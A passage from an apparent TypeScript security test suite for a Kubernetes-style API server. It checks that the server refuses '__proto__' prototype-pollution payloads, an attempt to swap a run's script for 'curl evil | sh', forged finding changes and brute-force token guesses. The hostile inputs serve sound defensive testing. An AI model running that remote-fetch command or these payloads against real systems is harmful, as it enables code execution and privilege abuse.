      const attempts: Array<[Who, string, unknown, string]> = [
        ['viewer', `${G}/tokens/doesnotexist?fieldManager=x`, { apiVersion: API, kind: 'Token', metadata: { name: 'doesnotexist' }, spec: { ['__proto__']: { cluster: 'admin' } } }, APPLY],
        ['agent', `${G}/namespaces/acme/leases/web-1?fieldManager=agent`, { apiVersion: API, kind: 'Lease', metadata: { name: 'web-1' }, spec: { ['__proto__']: { user: 'admin' } } }, APPLY],
        ['ns-admin', `${G}/rolebindings/nsadmin-admin`, { spec: { namespace: null, ['__proto__']: { namespace: 'acme' } } }, MERGE],
      ];
      for (const [who, path, body, type] of attempts) {
        // A computed ['__proto__'] key is an own property, so JSON.stringify sends it as the attacker would.
        expect(JSON.stringify(body)).to.contain('"__proto__"');
        const r = await call(who, 'PATCH', path, body, type);
        expect(r.status, `${who} ${path}`).to.equal(400);
        expect(r.body.message).to.contain('__proto__');
      }
      const probe: Json = {};
      expect([probe.cluster, probe.user, probe.namespace]).to.deep.equal([undefined, undefined, undefined]);
      expect((await call('viewer', 'GET', `${G}/tokens`)).status).to.equal(403);
      expect((await mustAdmin('GET', `${G}/rolebindings/nsadmin-admin`)).spec.namespace).to.equal('acme');
    });

    it('what a Run does is fixed at creation; approving adds, never removes; even an admin cannot rewrite it', async () => {
      await mustAdmin('POST', `${G}/namespaces/acme/runs`, { apiVersion: API, kind: 'Run', metadata: { name: 'fixed-1' }, spec: { nodeName: 'web-1', preset: 'p2', risk: 'DANGEROUS', steps: [{ name: 'apply', script: 'echo hi' }] } });
      const path = `${G}/namespaces/acme/runs/fixed-1`;
      for (const spec of [{ steps: [{ name: 'apply', script: 'curl evil | sh' }] }, { risk: 'SAFE' }, { nodeName: 'web-2' }, { preset: 'other' }]) {
        const r = await call('operator', 'PATCH', path, { spec }, MERGE);
        expect(r.status, JSON.stringify(spec)).to.equal(422);
        expect(r.body.details.causes[0].field).to.equal(`spec.${Object.keys(spec)[0]}`);
      }
      expect((await call('admin', 'PATCH', path, { spec: { steps: [{ name: 'apply', script: 'id' }] } }, MERGE)).status).to.equal(422);
      expect((await call('operator', 'PATCH', path, { spec: { approvedBy: ['operator'] } }, MERGE)).status).to.equal(200);
      const withdraw = await call('operator', 'PATCH', path, { spec: { approvedBy: [] } }, MERGE);
      expect(withdraw.status).to.equal(422);
      expect(withdraw.body.details.causes[0].field).to.equal('spec.approvedBy');
      expect((await call('operator', 'PATCH', path, { spec: { cancel: true } }, MERGE)).status).to.equal(200);
      expect((await mustAdmin('GET', path)).spec.steps[0].script).to.equal('echo hi');
    });

    it("a finished run's phase cannot change (409), for its agent or an admin; its other status fields can", async () => {
      await mustAdmin('POST', `${G}/namespaces/acme/runs`, { apiVersion: API, kind: 'Run', metadata: { name: 'done-1' }, spec: { nodeName: 'web-1', preset: 'p1', steps: [{ name: 'apply', script: 'true' }] } });
      const status = `${G}/namespaces/acme/runs/done-1/status`;
      expect((await call('agent', 'PATCH', status, { status: { phase: 'Failed', message: 'AgentRestarted' } }, MERGE)).status).to.equal(200);
      for (const who of ['agent', 'admin'] as const) {
        const r = await call(who, 'PATCH', status, { status: { phase: 'Succeeded' } }, MERGE);
        expect(r.status, who).to.equal(409);
        expect(r.body.message).to.contain('the run already finished (Failed); its phase cannot change to Succeeded');
      }
      expect((await call('agent', 'PATCH', status, { status: { message: 'AgentRestarted: said twice' } }, MERGE)).status).to.equal(200);
      expect((await mustAdmin('GET', `${G}/namespaces/acme/runs/done-1`)).status.phase).to.equal('Failed');
    });

    it("a token's expiry only moves earlier, unless a cluster admin moves it", async () => {
      const soon = new Date(Date.now() + 3600_000).toISOString().replace(/\.\d+Z$/, 'Z');
      const minted = await mustAdmin('POST', `${G}/tokens`, { apiVersion: API, kind: 'Token', metadata: {}, spec: { user: 'viewer', expiresAt: soon } });
      const path = `${G}/tokens/${minted.metadata.name as string}`;
      const later = new Date(Date.now() + 7200_000).toISOString().replace(/\.\d+Z$/, 'Z');
      const earlier = new Date(Date.now() + 1800_000).toISOString().replace(/\.\d+Z$/, 'Z');
      const own = minted.status.token as string;
      for (const expiresAt of [later, null]) {
        const r = await call(own, 'PATCH', path, { spec: { expiresAt } }, MERGE);
        expect(r.status, String(expiresAt)).to.equal(422);
        expect(r.body.details.causes[0].field).to.equal('spec.expiresAt');
      }
      expect((await call(own, 'PATCH', path, { spec: { expiresAt: earlier } }, MERGE)).status).to.equal(200);
      expect((await call('admin', 'PATCH', path, { spec: { expiresAt: later } }, MERGE)).status).to.equal(200);
    });

    it('deleting a user revokes its tokens: the same name created again does not bring them back', async () => {
      await mustAdmin('POST', `${G}/users`, { apiVersion: API, kind: 'User', metadata: { name: 'leaver' }, spec: {} });
      await mustAdmin('POST', `${G}/rolebindings`, { apiVersion: API, kind: 'RoleBinding', metadata: { name: 'leaver-viewer' }, spec: { user: 'leaver', role: 'viewer' } });
      const minted = await mustAdmin('POST', `${G}/tokens`, { apiVersion: API, kind: 'Token', metadata: {}, spec: { user: 'leaver' } });
      const token = minted.status.token as string;
      expect((await call(token, 'GET', `${G}/presets`)).status).to.equal(200);
      await mustAdmin('DELETE', `${G}/users/leaver`);
      for (let i = 0; i < 100 && !(await mustAdmin('GET', `${G}/tokens/${minted.metadata.name as string}`)).spec.revoked; i++) await new Promise((r) => setTimeout(r, 50));
      expect((await mustAdmin('GET', `${G}/tokens/${minted.metadata.name as string}`)).spec.revoked).to.equal(true);
      await mustAdmin('POST', `${G}/users`, { apiVersion: API, kind: 'User', metadata: { name: 'leaver' }, spec: {} });
      expect((await call(token, 'GET', `${G}/presets`)).status).to.equal(401);
    });

    it("an agent's heartbeat renewals are not audited; a refused one is", async () => {
      const file = `${c.dataDir}/audit/audit.jsonl`;
      const leaseLines = () => readFileSync(file, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Json).filter((e) => e.resource === 'leases' && e.user?.kind === 'Node');
      const lease = `${G}/namespaces/acme/leases/web-1`;
      if ((await admin('GET', lease)).status === 404) {
        expect((await call('agent', 'POST', `${G}/namespaces/acme/leases`, { apiVersion: API, kind: 'Lease', metadata: { name: 'web-1' }, spec: { holderIdentity: 'hyprnode@web-1', renewTime: '2026-01-01T00:00:00Z' } })).status).to.equal(201);
      }
      for (let i = 0; i < 3; i++) {
        expect((await call('agent', 'PATCH', lease, { spec: { renewTime: `2026-01-01T00:00:0${i}Z` } }, MERGE)).status).to.equal(200);
      }
      expect((await call('agent', 'PATCH', `${G}/namespaces/acme/leases/web-2`, { spec: { renewTime: '2026-01-01T00:00:09Z' } }, MERGE)).status).to.equal(403);
      // The refusal is the last thing the agent did: once it is in the file, the renewals before it would be.
      await until('the refused renewal in the audit file', () => leaseLines().some((e) => e.name === 'web-2' && e.code === 403));
      expect(leaseLines().filter((e) => e.name === 'web-1' && (e.verb === 'patch' || e.verb === 'update') && e.code < 400)).to.deep.equal([]);
    });

    it('an agent cannot take over a finding that is not its own scanner finding', async () => {
      await mustAdmin('POST', `${G}/namespaces/acme/findings`, { apiVersion: API, kind: 'Finding', metadata: { name: 'drift-1' }, spec: { nodeName: 'web-1', type: 'drift.sshd', key: 'k1', severity: 'CRITICAL', source: 'drift' } });
      const r = await call('agent', 'PATCH', `${G}/namespaces/acme/findings/drift-1`, { spec: { source: 'scanner', severity: 'INFO' } }, MERGE);
      expect(r.status).to.equal(403);
      expect((await mustAdmin('GET', `${G}/namespaces/acme/findings/drift-1`)).spec.severity).to.equal('CRITICAL');
    });
  });

  describe('throttling', () => {
    it('failed authentications from one address get 429 with Retry-After, valid requests in between or not', async () => {
      let last = 0;
      let retryAfter: string | null = null;
      for (let i = 0; i < 15; i++) {
        // A fresh token prefix for every guess, and a valid request of the guesser's own after each.
        const res = await send(`${c.url}${G}/presets`, 'GET', new Headers({ Authorization: `Bearer hbx_zzzzzzzzz${String(i).padStart(3, '0')}_${'B'.repeat(43)}` }), undefined);
        last = res.status;
        retryAfter = res.headers.get('retry-after');
        await res.text();
        if (last === 429) break;
        expect((await call('viewer', 'GET', `${G}/presets`)).status).to.equal(200);
      }
      expect(last).to.equal(429);
      expect(Number(retryAfter)).to.be.greaterThan(0);
      // Tokens that proved themselves before keep working from that address: guesses do not lock out owners.
      expect((await admin('GET', `${G}/presets`)).status).to.equal(200);
      expect((await call('viewer', 'GET', `${G}/presets`)).status).to.equal(200);
    });
  });
});
